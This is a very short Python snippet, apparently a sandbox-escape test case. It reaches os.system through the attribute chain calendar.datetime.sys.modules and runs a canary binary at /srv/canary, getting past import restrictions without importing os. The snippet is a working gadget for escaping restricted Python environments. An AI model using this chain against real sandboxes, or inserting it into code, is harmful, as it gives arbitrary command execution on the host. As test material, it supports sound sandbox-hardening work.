# reaches: calendar to datetime to sys
import calendar
calendar.datetime.sys.modules["os"].system("/srv/canary")
